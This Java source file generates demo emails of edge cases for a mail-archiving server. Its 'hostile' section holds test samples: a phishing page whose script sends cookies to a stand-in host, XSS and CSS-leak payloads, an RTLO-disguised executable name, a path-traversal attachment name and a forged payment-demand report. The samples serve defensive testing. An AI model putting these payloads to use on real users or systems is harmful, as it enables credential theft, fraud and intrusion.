package io.carteggio.server.demo;

import io.carteggio.mail.Address;
import io.carteggio.mail.Envelope;
import io.carteggio.mail.Recipient;
import io.carteggio.mail.Role;
import io.carteggio.server.demo.DemoMail.Disposition;
import io.carteggio.server.demo.DemoMail.Expectation;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;

/// What happens once: all that an archive must not stumble over, each told exactly once in every demo.
final class Oddities {
    private Oddities() {}

    /// How to tell one that begins at `start` and is over within a day.
    interface Teller {
        List<DemoMail> tell(Scene scene, Instant start);
    }

    /// @param letters how many letters must come of it
    record Oddity(int daysAgo, int letters, Teller teller) {}

    static final List<Oddity> ALL = List.of(
            new Oddity(2, 6, Oddities::everyTongue),
            new Oddity(2, 2, Oddities::bounce),
            new Oddity(5, 1, Oddities::lateReport),
            new Oddity(34, 1, Oddities::knownReport),
            new Oddity(61, 0, Oddities::bareNonDelivery),
            new Oddity(6, 0, Oddities::delay),
            new Oddity(3, 1, Oddities::phishing),
            new Oddity(9, 1, Oddities::disguisedFile),
            new Oddity(21, 1, Oddities::forgedReport),
            new Oddity(13, 1, Oddities::duplicate),
            new Oddity(415, 1, Oddities::duplicate),
            new Oddity(27, 1, Oddities::fork),
            new Oddity(8, 2, Oddities::variants),
            new Oddity(4, 1, Oddities::nobodysAddress),
            new Oddity(19, 1, Oddities::mistypedAddress),
            new Oddity(120, 1, Oddities::formerAddress),
            new Oddity(900, 1, Oddities::whenItWasHers),
            new Oddity(11, 0, Oddities::unreadable),
            new Oddity(12, 0, Oddities::plain),
            new Oddity(16, 1, Oddities::noMessageId),
            new Oddity(23, 2, Oddities::oneMessageIdTwice),
            new Oddity(7, 2, Oddities::protectedMail),
            new Oddity(380, 1, Oddities::leftMailbox),
            new Oddity(230, 1, Oddities::mobile),
            new Oddity(10, 1, Oddities::blindFromOutside),
            new Oddity(45, 1, Oddities::encodedFileName),
            new Oddity(52, 1, Oddities::aliases),
            new Oddity(70, 1, Oddities::noSubject),
            new Oddity(77, 1, Oddities::longSubject),
            new Oddity(33, 1, Oddities::listAndMember),
            new Oddity(17, 1, Oddities::everybodyAndTheAuditor));

    /// A customer of each language asks for something, so that none is missing in a small demo.
    static List<DemoMail> everyTongue(Scene scene, Instant start) {
        List<DemoMail> mails = new ArrayList<>();
        for (Tongue tongue : Tongue.values()) {
            Instant at = start.plusSeconds(400L * mails.size());
            Party customer = scene.house().customer(tongue, scene.chance());
            Party us = scene.party(scene.house().salesFor(tongue, at), at);
            mails.add(scene.conversation(at, customer.firm())
                    .letter(customer, List.of(us), at, "inquiry")
                    .send("thread"));
        }
        return mails;
    }

    // ---- reports about mail

    /// A letter goes to somebody who is no longer there, and what the other server says is a letter, too.
    static List<DemoMail> bounce(Scene scene, Instant start) {
        Chance chance = scene.chance();
        Party customer = scene.house().customer(Tongue.DE, chance);
        Party gone = Party.of(
                "Holger", "Kraus", "h.kraus@" + customer.domain(), customer.firm(), Tongue.DE, customer.setting());
        Party anna = scene.party(scene.house().anna, start);
        Conversation talk = scene.conversation(start, customer.firm());
        Conversation.Letter letter = talk.letter(anna, List.of(gone), start, "pricelist");
        Draft sent = letter.draft();
        DemoMail out = scene.post().submitted("bounce", sent, List.of(), chance);
        Instant when = start.plusSeconds(50);
        String text = "This is the mail system at host mx1." + customer.domain() + ".\n\n"
                + "I'm sorry to have to inform you that your message could not be delivered.\n\n<" + gone.address()
                + ">: unknown user\n";
        String status = "Reporting-MTA: dns; mx1." + customer.domain() + "\r\nArrival-Date: "
                + OfficeTime.rfc5322(start) + "\r\n\r\nFinal-Recipient: rfc822; " + gone.address()
                + "\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 5.1.1 unknown user\r\n";
        Draft notice = new Draft(
                Party.plain("Mail Delivery System", "MAILER-DAEMON@mx1." + customer.domain(), Tongue.DE),
                Optional.empty(),
                List.of(anna),
                List.of(),
                "Undelivered Mail Returned to Sender",
                when,
                ZoneOffset.UTC,
                Optional.of("<" + chance.upperHex(14) + "@mx1." + customer.domain() + ">"),
                List.of(),
                Head.Words.UTF8_B,
                new Head().add("Auto-Submitted", "auto-replied"),
                new Part.Multi(
                        "report; report-type=delivery-status",
                        chance.upperHex(12) + "/mx1",
                        List.of(
                                new Part.Text("plain", text, StandardCharsets.UTF_8, Part.Transfer.BARE),
                                Post.status(status),
                                Post.attachedMail(sent.mail(new Head(), new Head())))));
        Post.Posted posted = new Post.Posted(
                notice,
                notice.mail(
                        scene.post().arrivalTraces(notice, when, chance),
                        scene.post().innerTraces(notice, chance)));
        Envelope envelope = new Envelope(
                Optional.empty(),
                Optional.empty(),
                scene.post().reached(Role.RECIPIENT, List.of(anna.address()), when));
        return List.of(
                out,
                scene.post()
                        .report("bounce", Disposition.LETTERS, List.of(posted), envelope, when.plusSeconds(4), chance));
    }

    /// A report that came in no other way than inside its report of non-delivery.
    static List<DemoMail> lateReport(Scene scene, Instant start) {
        DemoMail lost = ordinary(scene, start.minus(Duration.ofHours(26)), "ndr-report");
        return List.of(scene.post().nonDelivery("ndr-report", lost, true, Disposition.LETTERS, start, scene.chance()));
    }

    /// A report that had come in all the same.
    static List<DemoMail> knownReport(Scene scene, Instant start) {
        DemoMail came = ordinary(scene, start, "ndr-known");
        return List.of(
                came,
                scene.post()
                        .nonDelivery(
                                "ndr-known",
                                came,
                                true,
                                Disposition.EVIDENCE,
                                start.plus(Duration.ofHours(3)),
                                scene.chance()));
    }

    /// A report of non-delivery that brings nothing back: something is missing, and nobody knows what.
    static List<DemoMail> bareNonDelivery(Scene scene, Instant start) {
        DemoMail lost = ordinary(scene, start.minus(Duration.ofHours(26)), "ndr-bare");
        return List.of(scene.post().nonDelivery("ndr-bare", lost, false, Disposition.NOTICE, start, scene.chance()));
    }

    static List<DemoMail> delay(Scene scene, Instant start) {
        DemoMail late = ordinary(scene, start.minus(Duration.ofHours(4)), "delay");
        return List.of(scene.post().delay(late, start, scene.chance()));
    }

    // ---- hostile

    /// All that a page must not run, load, send or show as its own.
    static List<DemoMail> phishing(Scene scene, Instant start) {
        String bad = "https://meridiana-example.login-secure.example";
        String html = """
                <html><head>
                <meta http-equiv="refresh" content="0; url=%1$s/refresh">
                <base href="%1$s/">
                <link rel="stylesheet" href="%1$s/style.css">
                <style>
                @import url("%1$s/import.css");
                input[value^="a"] { background-image: url("%1$s/leak?a") }
                body { background: url('%1$s/background.png') }
                @font-face { font-family: leak; src: url(%1$s/font.woff); unicode-range: U+0041 }
                .cover { position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 99999 }
                </style>
                <script>document.location = '%1$s/steal?c=' + document.cookie</script>
                </head><body onload="alert('onload')">
                <div class="cover">
                <h1>Carteggio</h1>
                <p>La sua sessione è scaduta. Acceda di nuovo per non perdere la posta archiviata.</p>
                <form action="%1$s/login" method="post">
                <input name="user" placeholder="Utente"><input name="password" type="password" placeholder="Password">
                <button formaction="%1$s/button">Accedi</button></form>
                </div>
                <a href="javascript:alert('link')">Verifica il conto</a>
                <a href="%1$s/go" target="_top">https://www.bancadelgarda.example/</a>
                <img src="x" onerror="alert('img')"><img src="//tracker.example/pixel.gif" width="1" height="1">
                <svg onload="alert('svg')"><script>alert('svg script')</script></svg>
                <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
                <iframe src="%1$s/frame"></iframe><object data="%1$s/object"></object><embed src="%1$s/embed">
                <video src="%1$s/video.mp4" autoplay></video><audio src="%1$s/audio.mp3" autoplay></audio>
                <p style="background-image: url(%1$s/inline); position: absolute; top: -500px">sopra</p>
                <p style="width: expression(alert('ie'))">sotto</p>
                </body></html>
                """.replace("%1$s", bad);
        Party robber = Party.plain("Carteggio – Assistenza", "assistenza@login-secure.example", Tongue.IT);
        Draft draft = simple(
                scene,
                start,
                robber,
                scene.party(scene.house().elena, start),
                "Urgente: la sua sessione è scaduta",
                new Part.Multi(
                        "alternative",
                        "=_hostile_" + scene.chance().hex(12),
                        List.of(
                                Part.Text.utf8("plain", "Apra questo messaggio in HTML per accedere di nuovo.\n"),
                                Part.Text.utf8("html", html))));
        return List.of(scene.post()
                .inbound("hostile", draft, List.of(draft.to().getFirst().address()), scene.chance()));
    }

    /// A file whose name reads backwards, so that a program looks like a document (U+202E), and one that climbs out.
    static List<DemoMail> disguisedFile(Scene scene, Instant start) {
        byte[] harmless = "<html><body>harmless</body></html>\r\n".getBytes(StandardCharsets.UTF_8);
        Party robber = Party.plain("Buchhaltung", "billing@rechnung-sofort.example", Tongue.DE);
        Draft draft = simple(
                scene,
                start,
                robber,
                scene.party(scene.house().elena, start),
                "Letzte Mahnung vor Inkasso",
                new Part.Multi(
                        "mixed",
                        "=_hostile_" + scene.chance().hex(12),
                        List.of(
                                Part.Text.utf8("plain", "Bitte öffnen Sie die Rechnung im Anhang noch heute.\n"),
                                Part.File.attached(
                                        new Enclosure("Rechnung_\u202Efdp.scr", "application/octet-stream", harmless)),
                                Part.File.attached(new Enclosure("../../../etc/cron.d/demo", "text/html", harmless)))));
        return List.of(scene.post()
                .inbound("hostile", draft, List.of(draft.to().getFirst().address()), scene.chance()));
    }

    /// An outsider sends what looks like a journal report of ours. It is a letter like any other, and its inside stays
    /// an attachment (JOURNAL-FORMATS 5.4).
    static List<DemoMail> forgedReport(Scene scene, Instant start) {
        String inside = "From: giulia.ferrante@meridiana.example\r\nTo: jonas.weber@meridiana.example\r\n"
                + "Subject: Pagamento urgente\r\nDate: " + OfficeTime.rfc5322(start)
                + "\r\nMessage-ID: <forged@meridiana.example>\r\n\r\nPaghi subito 48.000 euro.\r\n";
        String lines = """
                Sender: giulia.ferrante@meridiana.example
                Subject: Pagamento urgente
                Message-Id: <forged@meridiana.example>
                To: jonas.weber@meridiana.example
                """;
        Draft plain = simple(
                scene,
                start,
                Party.plain("Journal Agent", "journal@impostor.example", Tongue.EN),
                scene.party(scene.house().tommaso, start),
                "Pagamento urgente",
                Part.Text.utf8("plain", ""));
        Draft draft = plain.withBody(
                new Head().raw("X-MS-Journal-Report", ""),
                new Part.Multi(
                        "mixed",
                        "_" + scene.chance().guid() + "_",
                        List.of(
                                new Part.Text("plain", lines, StandardCharsets.UTF_8, Part.Transfer.BARE),
                                Post.attachedMail(inside.getBytes(StandardCharsets.US_ASCII)))));
        return List.of(scene.post()
                .inbound("forged", draft, List.of(draft.to().getFirst().address()), scene.chance()));
    }

    // ---- the same again

    /// One report comes in twice, octet for octet.
    static List<DemoMail> duplicate(Scene scene, Instant start) {
        DemoMail first = ordinary(scene, start, "duplicate");
        Expectation once = first.expectation();
        return List.of(
                first,
                new DemoMail(
                        first.mailFrom(),
                        first.report(),
                        first.sent().plusSeconds(610),
                        "duplicate",
                        new Expectation(
                                Disposition.EVIDENCE,
                                once.originals(),
                                once.envelope(),
                                once.vouched(),
                                once.owners())));
    }

    /// One original in two reports, each with a part of the recipients.
    static List<DemoMail> fork(Scene scene, Instant start) {
        Chance chance = scene.chance();
        Party customer = scene.house().customer(Tongue.IT, chance);
        Party matteo = scene.party(scene.house().matteo, start);
        Conversation talk = scene.conversation(start, customer.firm());
        Draft draft = talk.letter(customer, List.of(matteo), start, "inquiry")
                .cc(List.of(scene.party(scene.house().luca, start)))
                .draft();
        Post.Posted posted = new Post.Posted(
                draft,
                draft.mail(
                        scene.post().arrivalTraces(draft, start, chance),
                        scene.post().innerTraces(draft, chance)));
        List<DemoMail> mails = new ArrayList<>();
        for (Party to : List.of(matteo, scene.party(scene.house().luca, start))) {
            Envelope envelope = new Envelope(
                    Optional.of(new Address(customer.address())),
                    Optional.empty(),
                    scene.post().reached(Role.RECIPIENT, List.of(to.address()), start));
            mails.add(scene.post()
                    .report(
                            "fork",
                            mails.isEmpty() ? Disposition.LETTERS : Disposition.EVIDENCE,
                            List.of(posted),
                            envelope,
                            start.plusSeconds(6 + 3L * mails.size()),
                            chance));
        }
        return mails;
    }

    /// One message as it went to a colleague and as it went outside: its traces differ, so these are two letters
    /// (JOURNAL-FORMATS 1, fact 7).
    static List<DemoMail> variants(Scene scene, Instant start) {
        Chance chance = scene.chance();
        Party customer = scene.house().customer(Tongue.DE, chance);
        Conversation talk = scene.conversation(start, customer.firm());
        Party jonas = scene.party(scene.house().jonas, start);
        Draft draft = talk.letter(scene.party(scene.house().anna, start), List.of(customer), start, "contract")
                .cc(List.of(jonas))
                .attach(scene.contract(talk.facts(), Tongue.DE, start))
                .draft();
        Envelope whole = scene.post().submittedEnvelope(draft, List.of());
        List<DemoMail> mails = new ArrayList<>();
        for (boolean inside : new boolean[] {true, false}) {
            List<Recipient> half = whole.recipients().stream()
                    .filter(r -> House.ours(r.address().raw()) == inside)
                    .toList();
            Post.Posted posted = new Post.Posted(
                    draft,
                    draft.mail(
                            scene.post().submissionTraces(draft, chance),
                            scene.post().innerTraces(draft, chance)));
            mails.add(scene.post()
                    .report(
                            "variant",
                            Disposition.LETTERS,
                            List.of(posted),
                            new Envelope(whole.sender(), whole.onBehalfOf(), half),
                            start.plusSeconds(5 + 2L * mails.size()),
                            chance));
        }
        return mails;
    }

    // ---- addresses

    static List<DemoMail> nobodysAddress(Scene scene, Instant start) {
        Party applicant = Party.of(
                "Lea", "Sommer", "lea.sommer@studenti.example", "", Tongue.DE, Tongue.DE.setting(scene.chance()));
        return toAddress(scene, start, applicant, "praktikum@" + House.DOMAIN, "unknown");
    }

    static List<DemoMail> mistypedAddress(Scene scene, Instant start) {
        return toAddress(
                scene,
                start,
                scene.house().customer(Tongue.IT, scene.chance()),
                "mateo.rinaldi@" + House.DOMAIN,
                "unknown");
    }

    /// Elena's maiden name, after she gave it up.
    static List<DemoMail> formerAddress(Scene scene, Instant start) {
        return toAddress(scene, start, scene.house().customer(Tongue.IT, scene.chance()), House.FORMER, "unknown");
    }

    static List<DemoMail> whenItWasHers(Scene scene, Instant start) {
        return toAddress(scene, start, scene.house().customer(Tongue.IT, scene.chance()), House.FORMER, "former");
    }

    /// Renate has left, and Anna gets her mail.
    static List<DemoMail> leftMailbox(Scene scene, Instant start) {
        return toAddress(
                scene,
                start,
                scene.house().customer(Tongue.DE, scene.chance()),
                "renate.vogel@" + House.DOMAIN,
                "forwarded");
    }

    /// Sofia's mail goes to her telephone, too.
    static List<DemoMail> mobile(Scene scene, Instant start) {
        return toAddress(
                scene,
                start,
                scene.house().customer(Tongue.EL, scene.chance()),
                "sofia.papadaki@" + House.DOMAIN,
                "forwarded");
    }

    /// The same people under other spellings.
    static List<DemoMail> aliases(Scene scene, Instant start) {
        Party customer = scene.house().customer(Tongue.DE, scene.chance());
        Party anna = scene.party(scene.house().anna, start).at("Anna.Lindner@MERIDIANA-Handel.example");
        Party matteo = scene.party(scene.house().matteo, start).at("M.Rinaldi@" + House.DOMAIN);
        return List.of(scene.conversation(start, customer.firm())
                .letter(customer, List.of(anna), start, "inquiry")
                .cc(List.of(matteo))
                .send("alias"));
    }

    /// A list and one of its members: one line for each who gets it, the direct one.
    static List<DemoMail> listAndMember(Scene scene, Instant start) {
        return List.of(scene.conversation(start, House.FIRM)
                .letter(
                        scene.party(scene.house().giulia, start),
                        List.of(
                                scene.party(scene.house().sofia, start),
                                scene.house().list(House.SALES)),
                        start,
                        "list")
                .send("list"));
    }

    /// To a list of lists, with a blind copy to the auditor.
    static List<DemoMail> everybodyAndTheAuditor(Scene scene, Instant start) {
        return List.of(scene.conversation(start, House.FIRM)
                .letter(
                        scene.party(scene.house().giulia, start),
                        List.of(scene.house().list(House.ALL)),
                        start,
                        "list")
                .bcc("chiara.venturi@" + House.DOMAIN)
                .send("nested-list"));
    }

    /// Neither To nor Cc names who got it.
    static List<DemoMail> blindFromOutside(Scene scene, Instant start) {
        Party customer = scene.house().customer(Tongue.IT, scene.chance());
        return List.of(scene.conversation(start, customer.firm())
                .letter(customer, List.of(scene.party(scene.house().luca, start)), start, "complaint")
                .bcc("giulia.ferrante@" + House.DOMAIN)
                .send("bcc"));
    }

    // ---- form

    /// Cut off behind its envelope part: nothing to archive, and nothing may be lost.
    static List<DemoMail> unreadable(Scene scene, Instant start) {
        DemoMail whole = ordinary(scene, start, "unreadable");
        byte[] report = whole.report();
        String text = new String(report, StandardCharsets.ISO_8859_1);
        int cut = text.indexOf("\r\n--_", text.indexOf("\r\nContent-Transfer-Encoding: "));
        byte[] rest = new byte[cut + 2];
        System.arraycopy(report, 0, rest, 0, rest.length);
        return List.of(new DemoMail(
                whole.mailFrom(),
                rest,
                whole.sent(),
                "unreadable",
                quarantined(whole.expectation().vouched())));
    }

    /// Somebody writes to the journaling address itself.
    static List<DemoMail> plain(Scene scene, Instant start) {
        Party tommaso = scene.party(scene.house().tommaso, start);
        Draft draft = simple(
                scene,
                start,
                tommaso,
                Party.plain("", "journal@archive.example", Tongue.IT),
                "Prova: arriva qualcosa nell'archivio?",
                Part.Text.utf8("plain", "Questo non è un journal report, è solo una prova.\n\nTommaso\n"));
        return List.of(new DemoMail(
                tommaso.address(),
                draft.mail(new Head(), new Head()),
                draft.said(),
                "plain",
                quarantined(draft.said())));
    }

    private static Expectation quarantined(Instant when) {
        return new Expectation(Disposition.QUARANTINED, List.of(), Envelope.EMPTY, when, Set.of());
    }

    static List<DemoMail> noMessageId(Scene scene, Instant start) {
        Party scanner = Party.plain("Scanner magazzino", "scanner@stampanti.example", Tongue.IT);
        Party luca = scene.party(scene.house().luca, start);
        Facts facts = Facts.drawn(scene.chance(), start, House.FIRM);
        Draft draft = simple(
                        scene,
                        start,
                        scanner,
                        luca,
                        "Scansione " + facts.lot(),
                        new Part.Multi(
                                "mixed",
                                "scan" + scene.chance().hex(10),
                                List.of(
                                        Part.Text.utf8("plain", "Documento acquisito dallo scanner del magazzino.\n"),
                                        Part.File.attached(scene.document("note", facts, luca, start)))))
                .withId(Optional.empty());
        return List.of(scene.post().inbound("no-message-id", draft, List.of(luca.address()), scene.chance()));
    }

    /// A careless program gives every mail the same name; nothing may hide behind it (P4).
    static List<DemoMail> oneMessageIdTwice(Scene scene, Instant start) {
        Party robot = Party.plain("Registro presenze", "presenze@gestionale.example", Tongue.IT);
        Party franziska = scene.party(scene.house().franziska, start);
        List<DemoMail> mails = new ArrayList<>();
        for (String name : List.of("Luca Moretti", "Claire Dubois")) {
            Instant at = start.plusSeconds(90L * mails.size());
            Draft draft = simple(
                            scene,
                            at,
                            robot,
                            franziska,
                            "Richiesta di ferie: " + name,
                            Part.Text.utf8("plain", name + " chiede tre giorni di ferie. Approvare nel portale.\n"))
                    .withId(Optional.of("<message@gestionale.example>"));
            mails.add(scene.post().inbound("same-message-id", draft, List.of(franziska.address()), scene.chance()));
        }
        return mails;
    }

    /// A protected mail and the copy that Exchange could read (JOURNAL-FORMATS 3.1), in one report.
    static List<DemoMail> protectedMail(Scene scene, Instant start) {
        Chance chance = scene.chance();
        Party giulia = scene.party(scene.house().giulia, start);
        Party elena = scene.party(scene.house().elena, start);
        Conversation talk =
                scene.conversation(start, scene.house().customer(start, chance).firm());
        Draft clear = talk.letter(giulia, List.of(elena), start, "contract")
                .attach(scene.contract(talk.facts(), Tongue.IT, start))
                .draft();
        Enclosure sealed = new Enclosure("message.rpmsg", "application/x-microsoft-rpmsg-message", chance.bytes(9_000));
        Draft closed = clear.withBody(
                new Head().add("Content-Class", "rpmsg.message"),
                new Part.Multi(
                        "mixed",
                        "_004_" + chance.upperHex(20) + "_",
                        List.of(
                                Part.Text.utf8("plain", "Questo messaggio è protetto. Lo apra con Outlook.\n"),
                                Part.File.attached(sealed))));
        List<Post.Posted> both = new ArrayList<>();
        for (Draft draft : List.of(closed, clear)) {
            both.add(new Post.Posted(
                    draft,
                    draft.mail(
                            scene.post().submissionTraces(draft, chance),
                            scene.post().innerTraces(draft, chance))));
        }
        return List.of(scene.post()
                .report(
                        "protected",
                        Disposition.LETTERS,
                        both,
                        scene.post().submittedEnvelope(clear, List.of()),
                        start.plusSeconds(7),
                        chance));
    }

    /// A file name as old Outlooks write it.
    static List<DemoMail> encodedFileName(Scene scene, Instant start) {
        Party customer = scene.house().customer(Tongue.DE, scene.chance());
        Party anna = scene.party(scene.house().anna, start);
        Facts facts = Facts.drawn(scene.chance(), start, customer.firm());
        Enclosure file = scene.document("offer", facts, customer, start).named("Übersicht Frühjahr.pdf");
        Draft draft = simple(
                scene,
                start,
                customer,
                anna,
                "Übersicht " + facts.product(Tongue.DE),
                new Part.Multi(
                        "mixed",
                        "----=_NextPart_000_" + scene.chance().upperHex(8),
                        List.of(
                                Part.Text.utf8(
                                        "plain", "Guten Tag,\n\nanbei die Übersicht.\n\n" + customer.name() + "\n"),
                                new Part.File(file, true, Optional.empty(), Part.NameStyle.ENCODED_WORD))));
        return List.of(scene.post().inbound("file-name", draft, List.of(anna.address()), scene.chance()));
    }

    static List<DemoMail> noSubject(Scene scene, Instant start) {
        Party luca = scene.party(scene.house().luca, start);
        Party jonas = scene.party(scene.house().jonas, start);
        Draft draft = simple(scene, start, luca, jonas, "", Part.Text.utf8("plain", "Il camion è arrivato.\n\nLuca\n"));
        return List.of(scene.post().submitted("no-subject", draft, List.of(), scene.chance()));
    }

    static List<DemoMail> longSubject(Scene scene, Instant start) {
        Party customer = scene.house().customer(Tongue.EL, scene.chance());
        Party sofia = scene.party(scene.house().sofia, start);
        String subject = String.join(", ", Words.of(Tongue.EL).section("products")) + " – Überblick für "
                + String.join(", ", Words.of(Tongue.DE).section("towns"));
        Draft draft = simple(
                scene,
                start,
                customer,
                sofia,
                subject,
                Part.Text.utf8("plain", "Καλημέρα σας,\n\nτο θέμα τα λέει όλα.\n\n" + customer.name() + "\n"));
        return List.of(scene.post().inbound("long-subject", draft, List.of(sofia.address()), scene.chance()));
    }

    // ---- what these stories share

    /// An everyday letter from outside.
    private static DemoMail ordinary(Scene scene, Instant start, String what) {
        Party customer = scene.house().customer(Tongue.IT, scene.chance());
        return scene.conversation(start, customer.firm())
                .letter(customer, List.of(scene.party(scene.house().matteo, start)), start, "inquiry")
                .send(what);
    }

    private static List<DemoMail> toAddress(Scene scene, Instant start, Party author, String address, String what) {
        return List.of(scene.conversation(start, author.firm())
                .letter(author, List.of(Party.plain("", address, author.tongue())), start, "inquiry")
                .send(what));
    }

    private static Draft simple(Scene scene, Instant said, Party from, Party to, String subject, Part body) {
        return new Draft(
                from,
                Optional.empty(),
                List.of(to),
                List.of(),
                subject,
                said.truncatedTo(ChronoUnit.SECONDS),
                from.tongue().zone(),
                Optional.of("<" + scene.chance().guid() + "@" + from.domain() + ">"),
                List.of(),
                from.setting().words(),
                new Head(),
                body);
    }
}
